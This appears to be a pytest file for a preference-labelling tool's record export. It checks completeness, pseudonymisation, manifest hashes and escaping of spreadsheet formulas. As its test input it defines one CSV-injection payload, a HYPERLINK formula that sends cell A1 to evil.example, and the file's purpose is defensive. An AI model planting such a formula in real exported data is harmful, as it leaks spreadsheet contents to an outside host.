"""Whole records in a folder: complete, under pseudonyms, and safe in a spreadsheet."""

import csv
import hashlib
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from alignment.errors import InputError
from alignment.records import Comparison
from preference_ui.import_export import Filter
from preference_ui.labelling.assignment import next_lease
from preference_ui.labelling.exclusion import exclude_rater
from preference_ui.labelling.queue import queue_comparisons, withdraw
from preference_ui.labelling.revision import reopen
from preference_ui.labelling.ruling import adjudicate
from preference_ui.labelling.voting import cast_vote
from preference_ui.quality.record_export import export_records
from preference_ui.quality.spreadsheet import safe_cell
from preference_ui.snapshots.collections import CollectionTarget, open_collection, settle_collections
from preference_ui.store.settings import DeskSettings
from preference_ui.store.store import Store

Make = Callable[..., Comparison]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def _tables(folder: Path, name: str) -> list[dict[str, str]]:
    with (folder / name).open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def _lines(folder: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in (folder / "records.jsonl").read_text("utf-8").splitlines()]


def _vote(store: Store, rater: str, best: str | None, **verdict: Any) -> None:
    """Votes on what is in the rater's hand; ``best`` is the end of the better answer's id."""
    lease = next_lease(store, rater)
    assert lease is not None
    if best is not None:
        first = lease.order[0].endswith(best)
        verdict |= {"outcome": "ranked", "strength": -2 if first else 2}
    cast_vote(store, rater, lease.id, verdict)


@pytest.fixture
def desk(store: Store, comparison: Make, add_rater: Callable[..., str], tmp_path: Path) -> Store:
    store.change_settings(DeskSettings(gold_share=0, repeat_share=0), author="root")
    queue_comparisons(store, [comparison("c", "Paris.", FORMULA, question=FORMULA)], votes_wanted=3, queue="towns")
    root = add_rater(store, "root", role="administrator")
    ada, bob, eve = (add_rater(store, name) for name in ("ada", "bob", "eve"))
    _vote(store, ada, "-a", comment="+1-555-0100", criteria={"helpful": [5, 5]})
    cast_vote(store, ada, reopen(store, ada).id, {"outcome": "flagged", "reason": "unsafe", "comment": "@SUM(A1)"})
    _vote(store, bob, "-b", correction={"position": 0, "text": "-2+3"})
    _vote(store, eve, None, outcome="both_bad")
    exclude_rater(store, eve, actor="root", reason="spam")
    adjudicate(store, root, "c", {"outcome": "ranked", "strength": -3})
    open_collection(store, "towns", CollectionTarget(pairs=1))
    settle_collections(store, tmp_path / "snapshots", lambda _queue, _export: None)
    queue_comparisons(store, [comparison("d")], votes_wanted=1, queue="other")
    withdraw(store, ["d"], actor="root")
    return store


def test_a_record_comes_with_everything_that_was_said_of_it(desk: Store, tmp_path: Path) -> None:
    done = export_records(desk, tmp_path / "out")
    assert (done.rows, done.votes, done.raters) == (2, 5, 3)
    assert sorted(path.name for path in (tmp_path / "out").iterdir()) == [
        "manifest.json", "records.csv", "records.jsonl", "votes.csv",
    ]  # fmt: skip
    one, other = _lines(tmp_path / "out")
    assert (other["id"], other["queue"], other["withdrawn"], other["votes"]) == ("d", "other", True, [])
    assert [answer["text"] for answer in one["responses"]] == ["Paris.", FORMULA]
    assert [answer["model"] for answer in one["responses"]] == ["secret-model-0", "secret-model-1"]
    assert [(vote["outcome"], vote["purpose"], vote["superseded"], vote["left_out"]) for vote in one["votes"]] == [
        ("ranked", "work", True, False), ("flagged", "work", False, False), ("ranked", "work", False, False),
        ("both_bad", "work", False, True), ("ranked", "ruling", False, False),
    ]  # fmt: skip
    assert one["votes"][2]["correction"]["text"] == "-2+3"
    assert one["votes"][4]["ranking"] == [["c-a"], ["c-b"]]
    assert [line["action"] for line in one["trail"]] == ["comparison.adjudicate"]
    text = "".join(path.read_text("utf-8") for path in (tmp_path / "out").iterdir())
    for name in ("ada", "bob", "eve", "root", str(tmp_path)):
        assert f'"{name}' not in text
    manifest = json.loads((tmp_path / "out" / "manifest.json").read_text())
    assert manifest["files"]["records.jsonl"] == done.digest
    for name, digest in manifest["files"].items():
        assert hashlib.sha256((tmp_path / "out" / name).read_bytes()).hexdigest() == digest
    assert list(manifest["snapshots"]) == ["towns"]
    assert export_records(desk, tmp_path / "again").digest == done.digest


def test_the_tables_say_it_for_people_and_no_text_is_a_formula(desk: Store, tmp_path: Path) -> None:
    export_records(desk, tmp_path / "out")
    row, _other = _tables(tmp_path / "out", "records.csv")
    assert row["question"] == "'" + FORMULA
    counts = ("answers", "votes_wanted", "votes", "flags", "comments", "corrections", "rulings", "held")
    assert [row[name] for name in counts] == ["2", "3", "2", "1", "1", "1", "1", "no"]
    votes = _tables(tmp_path / "out", "votes.csv")
    assert [vote["said"] for vote in votes] == ["A > B (2)", "flagged", "B > A (2)", "both bad", "A > B (3)"]
    assert [vote["counts"] for vote in votes] == ["no", "yes", "yes", "no", "yes"]
    assert [vote["comment"] for vote in votes] == ["'+1-555-0100", "'@SUM(A1)", "", "", ""]
    assert votes[2]["correction"] == "'-2+3"
    assert votes[0]["scores"] == "helpful A: 5, helpful B: 5"
    for table in ("records.csv", "votes.csv"):
        for line in _tables(tmp_path / "out", table):
            assert not [cell for cell in line.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", "  =1", "＝1", "＋1", "－1", "＠1"])
def test_a_text_that_a_spreadsheet_would_calculate_has_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("value", [-1, 2.5, None, "a=1", "", "1-2", "naïve"])
def test_numbers_and_other_texts_stay_as_they_are(value: Any) -> None:
    assert safe_cell(value) == value


def test_records_are_chosen_by_queue_and_votes_and_come_whole(desk: Store, tmp_path: Path) -> None:
    assert export_records(desk, tmp_path / "a", Filter(queue="other")).rows == 1
    assert export_records(desk, tmp_path / "b", Filter(raters=("bob",))).votes == 5
    for at, chosen in enumerate((Filter(queue="none"), Filter(raters=("nobody",)))):
        with pytest.raises(InputError, match="no record is left"):
            export_records(desk, tmp_path / f"none-{at}", chosen)
    with pytest.raises(InputError, match="exported whole"):
        export_records(desk, tmp_path / "none-2", Filter(min_agreement=0.5))
    assert sorted(path.name for path in tmp_path.iterdir() if "none" in path.name) == []


def test_a_place_that_is_taken_or_cannot_be_is_a_mistake_and_stays_as_it_was(desk: Store, tmp_path: Path) -> None:
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "mine").write_text("mine")
    (tmp_path / "file").write_text("mine")
    for place in (tmp_path / "full", tmp_path / "file", tmp_path / "x.jsonl", tmp_path / "file" / "below"):
        with pytest.raises(InputError) as error:
            export_records(desk, place)
        assert str(error.value).count("\n") == 0
    assert [path.name for path in (tmp_path / "full").iterdir()] == ["mine"]
    (tmp_path / "empty").mkdir()
    assert export_records(desk, tmp_path / "empty").rows == 2


def test_pages_of_records_join_without_a_gap(store: Store, comparison: Make, monkeypatch: Any, tmp_path: Path) -> None:
    monkeypatch.setattr("preference_ui.quality.whole_records.BATCH", 3)
    queue_comparisons(store, [comparison(f"c{at}") for at in range(7)], votes_wanted=1)
    export_records(store, tmp_path / "out")
    assert [line["id"] for line in _lines(tmp_path / "out")] == [f"c{at}" for at in range(7)]
